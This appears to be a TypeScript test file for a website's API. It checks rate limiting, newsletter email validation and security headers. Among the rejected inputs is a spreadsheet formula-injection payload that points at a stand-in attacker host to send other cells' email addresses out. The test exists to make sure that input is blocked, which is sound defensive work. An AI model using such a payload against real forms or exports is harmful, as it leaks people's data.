// Rate limits, the newsletter, security headers and the shape of every /api reply.
import { afterAll, afterEach, describe, expect, it } from 'vitest';
import { NEWSLETTER_EMAIL_MESSAGE } from '../../model/contact-rules.ts';
import { NOT_FOUND_HTML, postJson, rawRequest, removeTempDirs, startTestServer, type TestServer } from './support.ts';

const servers: TestServer[] = [];
async function start(...args: Parameters<typeof startTestServer>): Promise<TestServer> {
  const server = await startTestServer(...args);
  servers.push(server);
  return server;
}
afterEach(async () => {
  for (const server of servers.splice(0)) await server.close();
});
afterAll(removeTempDirs);

const INQUIRY = {
  name: 'Ada Lovelace',
  email: 'ada@example.com',
  service: 'ops-audit',
  message: 'Please reset our operations.',
};

describe('rate limits', () => {
  it('allows 5 contact posts a minute per address, then answers 429 with Retry-After', async () => {
    const server = await start({ rateLimits: { contact: 5, newsletter: 10 } });
    const statuses: number[] = [];
    for (let i = 0; i < 5; i++)
      statuses.push(
        (await postJson(`${server.url}/api/contact`, i % 2 ? { ...INQUIRY, name: `Sender ${i}` } : {})).status,
      );
    expect(statuses).toEqual([400, 202, 400, 202, 400]);
    const limited = await postJson(`${server.url}/api/contact`, INQUIRY);
    expect(limited.status).toBe(429);
    const retryAfter = Number(limited.headers.get('retry-after'));
    expect(Number.isInteger(retryAfter) && retryAfter >= 1 && retryAfter <= 60).toBe(true);
    expect(limited.headers.get('content-type')).toMatch(/^application\/json/);
    expect(((await limited.json()) as { error: string }).error).toMatch(/Too many requests/);
    expect(await server.app.store.inquiries()).toHaveLength(2);
    // The newsletter has its own allowance (10 a minute).
    for (let i = 0; i < 10; i++)
      expect((await postJson(`${server.url}/api/newsletter`, { email: `n${i}@example.com` })).status).toBe(200);
    expect((await postJson(`${server.url}/api/newsletter`, { email: 'n11@example.com' })).status).toBe(429);
    // Reading is not limited.
    expect((await fetch(`${server.url}/`)).status).toBe(200);
  });

  it('counts per client address: X-Forwarded-For only when a proxy is trusted', async () => {
    const direct = await start({ rateLimits: { contact: 1, newsletter: 1 }, proxy: false });
    expect(
      (await postJson(`${direct.url}/api/newsletter`, { email: 'a@example.com' }, { 'x-forwarded-for': '203.0.113.1' }))
        .status,
    ).toBe(200);
    // Without a trusted proxy the header is ignored: same socket address, same bucket.
    expect(
      (await postJson(`${direct.url}/api/newsletter`, { email: 'b@example.com' }, { 'x-forwarded-for': '203.0.113.2' }))
        .status,
    ).toBe(429);

    const proxied = await start({ rateLimits: { contact: 1, newsletter: 1 }, proxy: true });
    expect(
      (
        await postJson(
          `${proxied.url}/api/newsletter`,
          { email: 'a@example.com' },
          { 'x-forwarded-for': '203.0.113.1' },
        )
      ).status,
    ).toBe(200);
    expect(
      (
        await postJson(
          `${proxied.url}/api/newsletter`,
          { email: 'b@example.com' },
          { 'x-forwarded-for': '203.0.113.2' },
        )
      ).status,
    ).toBe(200);
    expect(
      (
        await postJson(
          `${proxied.url}/api/newsletter`,
          { email: 'c@example.com' },
          { 'x-forwarded-for': '203.0.113.1' },
        )
      ).status,
    ).toBe(429);
    // Only the address the proxy appended counts: a forged first entry does not buy a new allowance.
    expect(
      (
        await postJson(
          `${proxied.url}/api/newsletter`,
          { email: 'd@example.com' },
          { 'x-forwarded-for': '198.51.100.7, 203.0.113.2' },
        )
      ).status,
    ).toBe(429);
  });
});

describe('POST /api/newsletter', () => {
  it('keeps one sign-up per address whatever the letter case, and refuses invalid addresses', async () => {
    const server = await start({ rateLimits: { contact: 50, newsletter: 50 } });
    for (const email of ['reader@example.com', 'Reader@Example.COM', '  reader@example.com  ']) {
      const res = await postJson(`${server.url}/api/newsletter`, { email });
      expect(res.status).toBe(200);
      expect(await res.json()).toEqual({ ok: true });
    }
    expect(
      (await postJson(`${server.url}/api/newsletter`, { email: 'other@example.com', extra: 'ignored' })).status,
    ).toBe(200);
    const pending = async () => (await server.app.store.newsletter.list({ pending: true })).map((s) => s.email);
    expect(await pending()).toEqual(['reader@example.com', 'other@example.com']);

    for (const body of [
      {},
      { email: '' },
      { email: 'nope' },
      { email: 'a@b' },
      { email: 42 },
      { email: ['a@example.com'] },
      { email: 'a\n@example.com' },
      { email: `${'a'.repeat(250)}@example.com` },
      // A spreadsheet formula that sends the other addresses away (an outside probe's), and other non-addresses.
      { email: '=HYPERLINK("https://evil.example/?"&A2,"x@evil.example")' },
      { email: '"a,b"@example.com' },
      { email: 'a@example.com, b@example.com' },
      { email: 'a@-evil.example' },
    ]) {
      const res = await postJson(`${server.url}/api/newsletter`, body);
      expect(res.status, JSON.stringify(body)).toBe(400);
      expect(await res.json()).toEqual({ errors: { email: NEWSLETTER_EMAIL_MESSAGE } });
    }
    // The honeypot works here too.
    expect((await postJson(`${server.url}/api/newsletter`, { email: 'bot@example.com', website: 'x' })).status).toBe(
      200,
    );
    expect(await pending()).toHaveLength(2);
  });
});

describe('every response', () => {
  it('carries the security headers, never X-Powered-By, and a CSP without inline or eval scripts', async () => {
    const server = await start();
    const responses = [
      await rawRequest(server.url, { path: '/' }),
      await rawRequest(server.url, { path: '/no-such-page' }),
      await rawRequest(server.url, { path: '/api/nothing-here' }),
      await rawRequest(server.url, { path: '/api/contact' }),
      await rawRequest(server.url, {
        method: 'POST',
        path: '/api/contact',
        headers: { 'content-type': 'application/json' },
        body: '{oops',
      }),
      await rawRequest(server.url, {
        method: 'POST',
        path: '/api/contact',
        headers: { 'content-type': 'text/plain' },
        body: 'x',
      }),
    ];
    for (const res of responses) {
      expect(res.headers['x-powered-by']).toBeUndefined();
      expect(res.headers['x-content-type-options']).toBe('nosniff');
      expect(res.headers['strict-transport-security']).toMatch(/max-age=\d+/);
      expect(res.headers['referrer-policy']).toBeTruthy();
      const csp = String(res.headers['content-security-policy']);
      const scriptSrc = /script-src ([^;]*)/.exec(csp)?.[1] ?? /default-src ([^;]*)/.exec(csp)?.[1];
      // Scripts from the site only; inline, just the pages' speculation rules (data, by their own keyword).
      expect(scriptSrc).toBe("'self' 'inline-speculation-rules'");
      expect(csp).not.toContain('unsafe-eval');
      expect(csp).toMatch(/style-src [^;]*'unsafe-inline'/);
      expect(csp).toContain("frame-ancestors 'none'");
    }
    const [, page404, api404, get, bad, wrongType] = responses;
    expect(page404!.status).toBe(404);
    expect(page404!.body).toBe(NOT_FOUND_HTML);
    expect(api404!.status).toBe(404);
    expect(JSON.parse(api404!.body)).toEqual({ error: 'Not found.' });
    expect(get!.status).toBe(405);
    expect(get!.headers.allow).toBe('POST');
    expect(bad!.status).toBe(400);
    expect(wrongType!.status).toBe(415);
    for (const res of [api404!, get!, bad!, wrongType!]) {
      expect(res.headers['content-type']).toMatch(/^application\/json/);
      expect(res.headers['cache-control']).toBe('no-store');
    }
  });
});
